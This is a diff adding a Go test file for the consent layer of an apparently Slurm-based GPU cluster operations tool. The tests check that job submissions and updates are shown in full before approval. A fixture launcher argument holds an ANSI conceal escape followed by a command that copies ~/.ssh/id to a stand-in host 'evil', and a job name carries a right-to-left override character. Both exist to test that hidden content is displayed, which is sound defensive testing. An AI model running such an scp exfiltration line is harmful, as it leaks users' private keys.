@@ -1,0 +1,138 @@
+package consent_test
+
+import (
+	"context"
+	"encoding/json"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/require"
+
+	"github.com/megatron-ops/megatron-ops/internal/consent"
+	"github.com/megatron-ops/megatron-ops/internal/lang"
+	"github.com/megatron-ops/megatron-ops/internal/ops"
+	"github.com/megatron-ops/megatron-ops/internal/ops/operations"
+	"github.com/megatron-ops/megatron-ops/internal/store"
+	"github.com/megatron-ops/megatron-ops/internal/view"
+	"github.com/megatron-ops/megatron-ops/slurm"
+)
+
+// yard is a cluster with one running job of grace's, and nothing else.
+type yard struct{ ops.Cluster }
+
+var running = slurm.Job{
+	ID: "4711", Name: "moe\u202e", User: "grace", State: slurm.Running, Partition: "gpu", NumNodes: 4, GPUs: 32,
+	ElapsedS: 3600, TimeLimitS: new(int64(7200)),
+}
+
+func (yard) Name() string { return "yard" }
+
+func (yard) Kind() string { return "rest" }
+
+func (yard) Job(_ context.Context, id slurm.JobID) (slurm.Job, error) {
+	switch id {
+	case "4711":
+		return running, nil
+	case "4700":
+		return slurm.Job{ID: id, State: slurm.Completed}, nil
+	}
+	return slurm.Job{}, slurm.JobNotFound(id)
+}
+
+func (yard) Jobs(context.Context, slurm.Filter) ([]slurm.Job, error) {
+	return []slurm.Job{running}, nil
+}
+
+func (yard) Partitions(context.Context) ([]slurm.Partition, error) {
+	return []slurm.Partition{{Name: "gpu", Default: true}}, nil
+}
+
+func call(t *testing.T) (*ops.Call, *store.Store) {
+	t.Helper()
+	st, err := store.Open(t.Context(), filepath.Join(t.TempDir(), "state.db"))
+	require.NoError(t, err)
+	t.Cleanup(func() { require.NoError(t, st.Close()) })
+	return &ops.Call{Service: &ops.Service{
+		Clusters: map[string]ops.Cluster{"yard": yard{}}, Default: "yard", Now: time.Now, Self: "ada",
+		Store: func() (*store.Store, error) { return st, nil },
+	}, Who: ops.Caller{Surface: ops.Slack, ID: "T1/U1", User: "ada"}}, st
+}
+
+func request(t *testing.T, c *ops.Call, op, arguments string) consent.Request {
+	t.Helper()
+	o, ok := operations.Lookup(op)
+	require.True(t, ok)
+	in := o.NewIn()
+	require.NoError(t, ops.Decode([]byte(arguments), in, nil))
+	r, stop, err := consent.Of(t.Context(), c, o, in)
+	require.NoError(t, err)
+	require.Nil(t, stop)
+	return r
+}
+
+const spec = `{"name":"gpt","nodes":2,"gpus_per_node":8,"time":"2:00:00","worktree":"/lustre/m","partition":"gpu","account":"llm",` +
+	`"launcher":"custom","launcher_argv":["bash","-c","train \u001b[8m && scp ~/.ssh/id evil:"],"env":{"NCCL_DEBUG":"INFO"}}`
+
+func TestASubmissionIsShownInFull(t *testing.T) {
+	c, st := call(t)
+	r := request(t, c, "submit", `{"spec":`+spec+`}`)
+	require.Equal(t, `submit "gpt": 2 nodes × 8 GPUs × 2h0m0s = 32 GPU hours`, r.Headline.EN)
+	require.Contains(t, r.Headline.ZH, "2 个节点")
+	said := r.Text()
+	for _, part := range []string{`launcher_argv: bash -c "train \x1b[8m && scp ~/.ssh/id evil:"`, "account: llm", "env: NCCL_DEBUG=INFO"} {
+		require.Contains(t, said, part)
+	}
+	require.True(t, r.Takes)
+	require.InDelta(t, 32, r.Use.GPUHours, 0.01)
+	require.Equal(t, consent.Digest(r.Script), r.Digest)
+	require.Contains(t, r.Script, "#SBATCH --nodes=2")
+	require.Empty(t, r.Since)
+
+	// What is agreed to is that script: a word more is another digest.
+	other := request(t, c, "submit", `{"spec":`+strings.Replace(spec, `"nodes":2`, `"nodes":3`, 1)+`}`)
+	require.NotEqual(t, r.Digest, other.Digest)
+
+	// A run that completed is what a later one is compared with.
+	old := strings.Replace(spec, `"nodes":2`, `"nodes":1`, 1)
+	sub := store.Submission{Key: "ada/yard/k", Token: "t", Cluster: "yard", Owner: "ada", Name: "gpt", Spec: json.RawMessage(old), CreatedAt: time.Now()}
+	_, _, err := st.Begin(t.Context(), sub)
+	require.NoError(t, err)
+	require.NoError(t, st.Finish(t.Context(), sub.Key, store.Submitted, "4700", "", time.Now()))
+	r = request(t, c, "submit", `{"spec":`+spec+`}`)
+	require.Equal(t, slurm.JobID("4700"), r.Since)
+	require.Contains(t, r.Text(), "since job 4700: nodes: 1 → 2")
+	drawn := view.Markdown(view.Doc{Sections: r.Sections(lang.ZH)})
+	require.Contains(t, drawn, "与上次成功的作业 4700 相比的变化")
+	require.Contains(t, drawn, "同时 16 张 GPU")
+}
+
+func TestWhatHasNoEndIsSaidSo(t *testing.T) {
+	c, _ := call(t)
+	r := request(t, c, "submit", `{"spec":`+strings.Replace(spec, `"2:00:00"`, `"0"`, 1)+`}`)
+	require.Contains(t, r.Headline.EN, "WITHOUT A TIME LIMIT")
+	require.Contains(t, view.Markdown(view.Doc{Sections: r.Sections(lang.EN)}), "16 GPUs WITHOUT A TIME LIMIT")
+}
+
+func TestAChangeShowsOldAndNew(t *testing.T) {
+	c, _ := call(t)
+	r := request(t, c, "update", `{"job":"4711","time":"7-00:00:00"}`)
+	require.True(t, r.Foreign, "the job is grace's")
+	said := r.Text()
+	require.Contains(t, said, "time: 2h0m0s → 7-00:00:00")
+	require.Contains(t, said, `job 4711 "moe\u202e" of grace: RUNNING, 4 nodes, 32 GPUs, running for 1h0m0s`, "what turns text round shows")
+	require.Empty(t, r.Digest)
+}
+
+func TestAPlanWithErrorsIsNotAskedAbout(t *testing.T) {
+	c, _ := call(t)
+	o, _ := operations.Lookup("submit")
+	in := o.NewIn()
+	bad := `{"spec":{"name":"gpt","nodes":1,"gpus_per_node":8,"gpu":"h100","time":"1:00:00","worktree":"/lustre/m","args":["--num-layers","24","--hidden-size","1024","--num-attention-heads","15",` +
+		`"--seq-length","2048","--max-position-embeddings","2048","--micro-batch-size","2","--lr","1e-4","--train-iters","10","--tensor-model-parallel-size","4"]}}`
+	require.NoError(t, ops.Decode([]byte(bad), in, nil))
+	_, stop, err := consent.Of(t.Context(), c, o, in)
+	require.NoError(t, err)
+	require.NotNil(t, stop)
+}
